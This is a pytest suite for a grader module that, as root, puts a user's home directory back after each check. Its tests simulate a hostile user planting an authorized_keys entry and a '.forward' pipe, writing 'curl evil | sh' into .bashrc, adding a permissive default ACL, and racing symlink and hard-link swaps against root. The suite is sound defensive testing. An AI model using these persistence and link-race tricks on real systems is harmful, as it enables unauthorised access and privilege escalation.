"""A graded user's home put back after each check: grader/home.py.

Root's daemons act as the user on files in its real home (a key in
~/.ssh/authorized_keys, a pipe in ~/.forward); a check's commands may write there by
the home's path whatever their HOME.  Each test makes a home of its own, owned by a
user id no process here has, and changes it as that user.
"""

import errno
import os
import stat
import struct
import subprocess
import sys
import tempfile
from pathlib import Path

import pytest
from conftest import VENV_PYTHON

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT / "grader"))

import home  # noqa: E402

pytestmark = pytest.mark.skipif(os.getuid() != 0, reason="a home of another user's needs root")
UID = 60000 + os.getpid() % 5000


def as_user(script: str, cwd: Path) -> None:
    subprocess.run(["sh", "-c", script], cwd=cwd, user=UID, group=UID, extra_groups=[],
                   check=True)


def tree(path: Path) -> list[tuple]:
    """Every entry under path: its type, mode, owners, contents or target."""
    found = []
    for entry in sorted(path.rglob("*")):
        st = entry.lstat()
        what = (os.readlink(entry) if entry.is_symlink() else
                entry.read_bytes() if stat.S_ISREG(st.st_mode) else None)
        # A directory's time changes as entries are renamed into it: not compared.
        mtime = None if stat.S_ISDIR(st.st_mode) else st.st_mtime_ns
        found.append((str(entry.relative_to(path)), stat.S_IFMT(st.st_mode),
                      stat.S_IMODE(st.st_mode), st.st_uid, st.st_gid, what, mtime))
    return found


@pytest.fixture
def a_home():
    """A home of UID's: files, a directory of its own mode, a link, a FIFO, a kept
    directory (the runner's results, say)."""
    base = Path(tempfile.mkdtemp(prefix="zk-home-"))
    base.chmod(0o755)
    h = base / "home"
    h.mkdir()
    os.chown(h, UID, UID)
    as_user("mkdir -p .ssh d/e out && echo hi > .bashrc && echo k > d/e/f && chmod 700 d && "
            "ln -s .bashrc link && mkfifo fifo && echo secret > .ssh/id && chmod 600 .ssh/id",
            h)
    yield h
    subprocess.run(["rm", "-rf", str(base)], check=True)


def test_what_a_check_left_in_the_home_is_put_back(a_home):
    """New files go (a key, a .forward), changed and removed ones come back from the
    copy, a directory's mode is set back, a directory made a link is a directory again;
    the runner's own files are left as they are; said once, then nothing to say."""
    copy = home.HomeCopy(str(a_home), UID, [str(a_home / "out")])
    assert not copy.unavailable, copy.unavailable
    before = tree(a_home)
    as_user("echo key > .ssh/authorized_keys && echo '|/tmp/janitor' > .forward && "
            "echo changed > .bashrc && rm -r d/e && chmod 755 d && rm fifo && "
            "rm link && mkdir link && mkdir -p new/a && touch new/a/b && "
            "echo result > out/result && chmod 777 .", a_home)
    said = copy.put_back()
    assert [e for e in tree(a_home) if e[0] != "out/result"] == before
    assert (a_home / "out" / "result").read_text() == "result\n"  # the runner's: kept
    assert stat.S_IMODE(a_home.stat().st_mode) == 0o755
    for part in (".ssh/authorized_keys (new: removed)", ".forward (new: removed)",
                 "/new (new: removed)", ".bashrc (changed: put back)", "/d (changed: put back)",
                 "/link (changed: put back)", "d/e (removed: made again)",
                 "fifo (removed: made again)", "(changed: put back)"):
        assert any(part in line for line in said), (part, said)
    assert not any("new/a" in line for line in said), said  # the new directory, once
    assert copy.put_back() == []


def xattrs(path: Path) -> dict[str, bytes]:
    return {key: os.getxattr(path, key) for key in os.listxattr(path)}


def test_extended_attributes_come_back_with_what_holds_them(a_home):
    """A file or directory made again has the extended attributes it had (user.*
    here; an ACL or a file capability is one too), and a file whose attributes
    alone changed is put back."""
    os.setxattr(a_home / ".bashrc", "user.zk", b"kept")
    os.setxattr(a_home / ".ssh" / "id", "user.zk", b"key")
    os.setxattr(a_home / "d" / "e", "user.zk", b"dir")
    copy = home.HomeCopy(str(a_home), UID, [str(a_home / "out")])
    as_user(f"echo changed > .bashrc && rm -r d/e && {VENV_PYTHON} -c 'import os; "
            "os.removexattr(\".ssh/id\", \"user.zk\"); os.setxattr(\".ssh/id\", "
            "\"user.new\", b\"x\")'", a_home)
    said = copy.put_back()
    for part in (".bashrc (changed: put back)", ".ssh/id (changed: put back)",
                 "d/e (removed: made again)"):
        assert any(part in line for line in said), (part, said)
    assert xattrs(a_home / ".bashrc") == {"user.zk": b"kept"}
    assert xattrs(a_home / ".ssh" / "id") == {"user.zk": b"key"}
    assert xattrs(a_home / "d" / "e") == {"user.zk": b"dir"}
    assert (a_home / ".ssh" / "id").read_text() == "secret\n"
    assert copy.put_back() == []


def default_acl(mode: int) -> bytes:
    """A default ACL (acl(5)) as its xattr holds it, system.posix_acl_default: the
    version, then (tag, permissions, id) for the owner, the group and the others."""
    entries = [(0x01, (mode >> 6) & 7), (0x04, (mode >> 3) & 7), (0x20, mode & 7)]
    return struct.pack("<I", 2) + b"".join(struct.pack("<HHI", tag, perm, 0xFFFFFFFF)
                                           for tag, perm in entries)


def test_a_directorys_attributes_changed_in_place_are_put_back(a_home):
    """xattrs set on a directory that stays (the home itself, .ssh) change nothing
    stat(2) compares: a default ACL on .ssh would give what a later check writes
    there to everyone.  They are read again and set back."""
    os.setxattr(a_home / "d", "user.zk", b"dir")
    copy = home.HomeCopy(str(a_home), UID, [str(a_home / "out")])
    acl = default_acl(0o777).hex()
    as_user(f"{VENV_PYTHON} -c 'import os; os.setxattr(\".ssh\", "
            f"\"system.posix_acl_default\", bytes.fromhex(\"{acl}\")); "
            "os.setxattr(\".\", \"user.new\", b\"x\"); "
            "os.setxattr(\"d\", \"user.zk\", b\"changed\")'", a_home)
    assert "system.posix_acl_default" in xattrs(a_home / ".ssh")  # the test's own check
    said = copy.put_back()
    for part in ("/.ssh (changed: put back)", "/d (changed: put back)", "itself"):
        assert any(part in line for line in said), (part, said)
    assert xattrs(a_home / ".ssh") == {}
    assert xattrs(a_home) == {}
    assert xattrs(a_home / "d") == {"user.zk": b"dir"}
    assert copy.put_back() == []


def test_a_home_without_extended_attributes_is_kept_whole(a_home, monkeypatch):
    """Where the file system keeps no xattrs (ENOTSUP: a FUSE or CIFS home), the
    files are copied and put back all the same."""
    def unsupported(fd):
        raise OSError(errno.EOPNOTSUPP, os.strerror(errno.EOPNOTSUPP))

    monkeypatch.setattr(home.os, "listxattr", unsupported)
    copy = home.HomeCopy(str(a_home), UID, [str(a_home / "out")])
    assert copy.copy[".bashrc"].data == b"hi\n"
    before = tree(a_home)
    as_user("echo changed > .bashrc && rm -r d/e", a_home)
    assert copy.put_back() and not copy.trouble, copy.trouble
    assert tree(a_home) == before


def test_extended_attributes_count_in_what_a_home_may_hold(a_home, monkeypatch):
    monkeypatch.setattr(home, "HOME_BYTES", 4096)
    as_user("rm -r .[!.]* *", a_home)  # no file left to tell its size after them
    for i in range(4):
        (a_home / f"x{i}").mkdir()
        os.setxattr(a_home / f"x{i}", "user.zk", b"v" * 2000)
    copy = home.HomeCopy(str(a_home), UID, [str(a_home / "out")])
    assert "holds more than" in copy.unavailable, copy.unavailable


def test_a_file_another_file_system_shows_is_never_made_again(a_home):
    """A user's FUSE mount on a file may show any owner and mode (root's, setuid):
    not copied, so never made again as a real file of root's."""
    other = a_home.parent / "other"  # another file system: a tmpfs
    other.mkdir()
    subprocess.run(["mount", "-t", "tmpfs", "-o", "size=1m", "zk-test", str(other)],
                   check=True)
    try:
        (other / "setuid").write_text("#!/bin/sh\n")
        (other / "setuid").chmod(0o4755)  # root's
        as_user("touch tool", a_home)
        subprocess.run(["mount", "--bind", str(other / "setuid"), str(a_home / "tool")],
                       check=True)
        try:
            copy = home.HomeCopy(str(a_home), UID, [str(a_home / "out")])
        finally:
            subprocess.run(["umount", str(a_home / "tool")], check=True)  # fusermount -u
    finally:
        subprocess.run(["umount", str(other)], check=True)
    assert "tool" not in copy.copy
    copy.put_back()
    assert not (a_home / "tool").exists() or (a_home / "tool").stat().st_uid == UID


def test_hard_links_come_back_as_links(a_home):
    """Names of one file come back as names of one file: made again together, or one
    linked again to the other still in its place (the same inode as when copied)."""
    as_user("ln .bashrc d/e/bashrc && ln d/e/f g", a_home)
    copy = home.HomeCopy(str(a_home), UID, [str(a_home / "out")])
    before = tree(a_home)
    as_user("echo changed > .bashrc && rm g", a_home)  # both names of .bashrc changed
    said = copy.put_back()
    for part in (".bashrc (changed: put back)", "d/e/bashrc (changed: put back)",
                 "/g (removed: made again)"):
        assert any(part in line for line in said), (part, said)
    assert tree(a_home) == before
    inode = (a_home / ".bashrc").stat().st_ino
    assert (a_home / "d" / "e" / "bashrc").stat().st_ino == inode
    assert (a_home / ".bashrc").stat().st_nlink == 2
    assert (a_home / "g").stat().st_ino == (a_home / "d" / "e" / "f").stat().st_ino
    assert copy.put_back() == []


def test_a_link_in_place_of_a_directory_is_never_followed(a_home):
    """The user swaps a directory of its home for a link to one of root's: root
    removes the link and makes the directory again, and writes nothing where the
    link pointed, nor removes anything there."""
    copy = home.HomeCopy(str(a_home), UID)
    victim = Path(tempfile.mkdtemp(prefix="zk-victim-"))
    try:
        (victim / "e").mkdir()
        (victim / "e" / "g").write_text("root's\n")
        as_user(f"mv d d.old && ln -s {victim} d && ln -s {victim}/e .ssh2", a_home)
        copy.put_back()
        assert sorted(p.name for p in victim.iterdir()) == ["e"]
        assert [p.name for p in (victim / "e").iterdir()] == ["g"]
        assert (a_home / "d").is_dir() and not (a_home / "d").is_symlink()
        assert (a_home / "d" / "e" / "f").read_text() == "k\n"
        assert not (a_home / ".ssh2").exists() and not (a_home / "d.old").exists()
    finally:
        subprocess.run(["rm", "-rf", str(victim)], check=True)


def test_a_flood_of_files_empties_the_home_but_the_runners_files(a_home, monkeypatch):
    """More files than a home may hold (HOME_ENTRIES) are not listed one by one: all
    goes but the runner's own, and the copy comes back."""
    monkeypatch.setattr(home, "HOME_ENTRIES", 40)
    copy = home.HomeCopy(str(a_home), UID, [str(a_home / "out")])
    before = tree(a_home)
    as_user("mkdir flood && cd flood && for i in $(seq 60); do touch f$i; done && "
            "echo result > ../out/result", a_home)
    said = copy.put_back()
    assert any("emptied, made again" in line for line in said), said
    assert [e for e in tree(a_home) if e[0] != "out/result"] == before
    assert (a_home / "out" / "result").exists()


def test_a_home_that_cannot_be_kept_is_said_so_and_left_alone(a_home, monkeypatch):
    """Too many files for a copy, a home the user does not own, none at all, or the
    runner's own files in place of the home: not kept, and put_back does nothing."""
    monkeypatch.setattr(home, "HOME_ENTRIES", 3)
    assert "more than 3 files" in home.HomeCopy(str(a_home), UID).unavailable
    monkeypatch.setattr(home, "HOME_ENTRIES", 10000)
    assert "not the user's own" in home.HomeCopy(str(a_home), UID + 1).unavailable
    assert "No such file" in home.HomeCopy(str(a_home / "none"), UID).unavailable
    assert "grader's own files" in home.HomeCopy(str(a_home), UID, [str(a_home)]).unavailable
    copy = home.HomeCopy(str(a_home), UID + 1)
    as_user("touch new", a_home)
    assert copy.put_back() == [] and (a_home / "new").exists()


def test_a_directory_swapped_for_roots_work_is_refused(a_home, monkeypatch):
    """root makes entries again in a directory of its own in the home (then renames
    them into place): one the user swaps in for it, by its name, is refused, and
    nothing is made where a link in its place would lead."""
    copy = home.HomeCopy(str(a_home), UID)
    victim = Path(tempfile.mkdtemp(prefix="zk-victim-"))
    as_user("rm -r d .bashrc", a_home)
    made = os.mkdir

    def mkdir_then_swapped(name, mode=0o777, *, dir_fd=None):
        made(name, mode, dir_fd=dir_fd)
        if name.startswith(home.STAGE_PREFIX):
            os.rename(name, "stage.swapped", src_dir_fd=dir_fd, dst_dir_fd=dir_fd)
            as_user(f"mkdir {name}", a_home)

    monkeypatch.setattr(home.os, "mkdir", mkdir_then_swapped)
    try:
        said = copy.put_back()
        assert copy.trouble and "is not the grader's" in copy.trouble, (copy.trouble, said)
        assert list(victim.iterdir()) == []
    finally:
        subprocess.run(["rm", "-rf", str(victim)], check=True)


def test_a_hard_link_put_where_an_entry_goes_keeps_its_owner(a_home, monkeypatch):
    """The user puts a hard link to a file of root's where root has just made an
    entry again (a link, a FIFO), before root sets its owner and mode: root set them
    in a directory of its own, and the rename replaces the name; root's file keeps
    its owner and mode."""
    copy = home.HomeCopy(str(a_home), UID)
    victim = a_home.parent / "victim"  # root's, one the user may read and write
    victim.write_text("root's\n")
    victim.chmod(0o666)
    as_user("rm link fifo", a_home)
    made_link, made_fifo = os.symlink, os.mkfifo

    def hard_link_after(make, name):  # as soon as root has made the entry, somewhere
        def made(*args, **kwargs):
            make(*args, **kwargs)
            as_user(f"rm -f {name} && ln {victim} {name}", a_home)
        return made

    monkeypatch.setattr(home.os, "symlink", hard_link_after(made_link, "link"))
    monkeypatch.setattr(home.os, "mkfifo", hard_link_after(made_fifo, "fifo"))
    copy.put_back()
    st = victim.stat()
    assert (st.st_uid, stat.S_IMODE(st.st_mode)) == (0, 0o666)
    assert (a_home / "link").is_symlink() and stat.S_ISFIFO((a_home / "fifo").lstat().st_mode)


def test_what_another_process_writes_meanwhile_goes_too(a_home, monkeypatch):
    """A process of the user's that writes a key while root puts the home back: the
    home is listed again after the work, and the key goes in the same put_back (it
    is never taken for part of the home)."""
    copy = home.HomeCopy(str(a_home), UID)
    as_user("touch junk", a_home)
    removed, written = home.HomeCopy.remove, []

    def then_a_key(self, at, paths):
        removed(self, at, paths)
        if not written:
            as_user("echo key > .ssh/authorized_keys", a_home)
            written.append(True)

    monkeypatch.setattr(home.HomeCopy, "remove", then_a_key)
    said = copy.put_back()
    assert not (a_home / ".ssh" / "authorized_keys").exists(), said
    assert not copy.trouble, copy.trouble


def test_a_file_held_by_a_lease_is_not_copied_but_the_rest_is_kept(a_home):
    """A write lease of another process's on a file makes root's open fail
    (EAGAIN): that file is not copied, the rest is, and a key added later goes."""
    holder = subprocess.Popen(
        [VENV_PYTHON, "-c", "import fcntl, os, signal, time\n"
         "signal.signal(signal.SIGIO, signal.SIG_IGN)\n"
         "fd = os.open('.bashrc', os.O_RDONLY)\n"
         "fcntl.fcntl(fd, fcntl.F_SETLEASE, fcntl.F_WRLCK)\n"
         "print('held', flush=True)\ntime.sleep(60)"],
        cwd=a_home, user=UID, group=UID, extra_groups=[], stdout=subprocess.PIPE, text=True)
    try:
        assert holder.stdout.readline() == "held\n"
        copy = home.HomeCopy(str(a_home), UID)
    finally:
        holder.kill()
        holder.wait()
    assert not copy.unavailable, copy.unavailable
    assert copy.copy[".bashrc"].data is None and copy.copy["d/e/f"].data == b"k\n"
    as_user("echo key > .ssh/authorized_keys", a_home)
    copy.put_back()
    assert not (a_home / ".ssh" / "authorized_keys").exists()


def test_a_deep_or_sparse_home_is_not_kept(a_home, monkeypatch):
    """Depth and size are told before anything is read: a sparse file of a terabyte
    is not read, a tree deeper than HOME_DEPTH not walked."""
    as_user("truncate -s 1T sparse", a_home)
    assert "more than 64 MB" in home.HomeCopy(str(a_home), UID).unavailable
    as_user("rm sparse && mkdir -p 1/2/3/4/5/6/7/8", a_home)
    monkeypatch.setattr(home, "HOME_DEPTH", 5)
    assert "deeper than 5" in home.HomeCopy(str(a_home), UID).unavailable


def test_a_deep_tree_or_a_flood_beside_the_runners_files_goes(a_home, monkeypatch):
    """A check's flood of files, or a tree too deep, in a directory that also holds
    the runner's files: all of it goes but those, and the copy comes back."""
    monkeypatch.setattr(home, "HOME_ENTRIES", 40)
    monkeypatch.setattr(home, "HOME_DEPTH", 6)
    as_user("mkdir -p grading/out", a_home)
    copy = home.HomeCopy(str(a_home), UID, [str(a_home / "grading" / "out")])
    before = tree(a_home)
    as_user("mkdir grading/flood && cd grading/flood && touch $(seq 60) && "
            "mkdir -p ../deep/1/2/3/4/5/6/7 && echo result > ../out/result", a_home)
    said = copy.put_back()
    assert not copy.trouble, (copy.trouble, said)
    assert [e for e in tree(a_home) if e[0] != "grading/out/result"] == before
    assert (a_home / "grading" / "out" / "result").exists()


def test_the_runners_files_moved_away_stop_the_put_back(a_home):
    """The user renames a directory of the runner's and puts its own in its place: the
    name is no longer the runner's, so nothing is removed (the runner's, renamed,
    would have been), and the check is told (a grader error)."""
    out = a_home / "out"
    (out / "p1.log").write_text("root's log\n")  # root's, in the user's directory
    copy = home.HomeCopy(str(a_home), UID, [str(out)])
    as_user("mv out out.old && mkdir out && echo forged > out/p1.log", a_home)
    assert copy.put_back() == []
    assert "was moved or removed" in copy.trouble, copy.trouble
    assert (a_home / "out.old" / "p1.log").read_text() == "root's log\n"


def test_what_is_written_after_roots_work_is_not_taken_for_the_home(a_home, monkeypatch):
    """A write just after root made entries again (a .bashrc, the home's mode), before
    it looked at the home once more: that look compares with the copy itself, so the
    write goes in the same put_back, and a later put_back still finds the copy."""
    copy = home.HomeCopy(str(a_home), UID)
    before = tree(a_home)
    as_user("rm fifo", a_home)
    made, written = home.HomeCopy.make_again, []

    def then_written(self, at, paths):
        failed = made(self, at, paths)
        if not written:
            as_user("echo 'curl evil | sh' > .bashrc && chmod 777 . d", a_home)
            written.append(True)
        return failed

    monkeypatch.setattr(home.HomeCopy, "make_again", then_written)
    copy.put_back()
    assert not copy.trouble, copy.trouble
    assert tree(a_home) == before and stat.S_IMODE(a_home.stat().st_mode) == 0o755
    monkeypatch.undo()
    as_user("echo 'curl evil | sh' > .bashrc", a_home)
    assert copy.put_back() == [f"{a_home}/.bashrc (changed: put back)"]
    assert tree(a_home) == before


def test_the_runners_files_renamed_while_root_works_are_not_removed(a_home, monkeypatch):
    """The user renames the runner's directory (root's files in it) to a new name just
    as root lists the home: that name is new, but root does not remove what it holds,
    and the check is told."""
    out = a_home / "out"
    (out / "p1.log").write_text("root's log\n")
    copy = home.HomeCopy(str(a_home), UID, [str(out)])
    listed = home.listing

    def renamed_first(at, skip):
        if out.exists():
            as_user("mv out renamed", a_home)
        return listed(at, skip)

    monkeypatch.setattr(home, "listing", renamed_first)
    assert copy.put_back() == []  # nothing said removed: nothing was
    assert "was moved or removed" in copy.trouble, copy.trouble
    assert (a_home / "renamed" / "p1.log").read_text() == "root's log\n"


def test_a_socket_gone_or_a_file_without_a_copy_is_no_trouble(a_home):
    """A program's socket in the home that went with it is its program's to make
    again (not looked at); a file that could not be copied and then changed goes,
    said so, and is looked for no more."""
    as_user(f"{VENV_PYTHON} -c 'import socket; socket.socket(socket.AF_UNIX).bind(\"agent\")'",
            a_home)
    copy = home.HomeCopy(str(a_home), UID)
    copy.copy[".bashrc"] = copy.copy[".bashrc"]._replace(data=None)  # as a lease leaves it
    as_user("rm agent && echo changed > .bashrc", a_home)
    said = copy.put_back()
    assert not copy.trouble, copy.trouble
    assert said == [f"{a_home}/.bashrc (changed: removed, no copy was kept of it)"], said
    assert not (a_home / ".bashrc").exists()
    assert copy.put_back() == [] and not copy.trouble


@pytest.mark.parametrize("removal", ["rm .bashrc", "rm -r d"])
def test_a_file_without_a_copy_removed_stays_removed_and_is_no_trouble(a_home, removal):
    """The other way a file that could not be copied can differ: removed (alone, or
    with its directory).  It cannot be made again; said so, once, and the check is
    no grader error (nothing of the check's stays), nor is any later one."""
    copy = home.HomeCopy(str(a_home), UID)
    uncopied = ".bashrc" if removal == "rm .bashrc" else "d/e/f"
    copy.copy[uncopied] = copy.copy[uncopied]._replace(data=None)  # as a lease leaves it
    before = tree(a_home)
    as_user(removal, a_home)
    said = copy.put_back()
    assert not copy.trouble, copy.trouble
    assert f"{a_home}/{uncopied} (removed: no copy was kept of it to make again)" in said
    assert tree(a_home) == [e for e in before if e[0] != uncopied]
    assert copy.put_back() == [] and not copy.trouble


def test_the_runners_files_renamed_onto_a_name_root_removes_stay(a_home, monkeypatch):
    """The narrower window: just after root looked that the runner's files are in
    place, the user renames them onto a new entry's name, which root then removes.
    Root looks at each entry's identity before removing it: the runner's stay."""
    out = a_home / "out"
    (out / "p1.log").write_text("root's log\n")
    copy = home.HomeCopy(str(a_home), UID, [str(out)])
    as_user("mkdir x", a_home)
    looked, calls = home.HomeCopy.kept_moved, []

    def then_renamed(self, at):  # the first look is put_back's, the second the pass's
        moved = looked(self, at)
        calls.append(moved)
        if len(calls) == 2:
            as_user("rmdir x && mv out x", a_home)
        return moved

    monkeypatch.setattr(home.HomeCopy, "kept_moved", then_renamed)
    copy.put_back()
    assert (a_home / "x" / "p1.log").read_text() == "root's log\n"
    assert "was moved or removed" in copy.trouble, copy.trouble
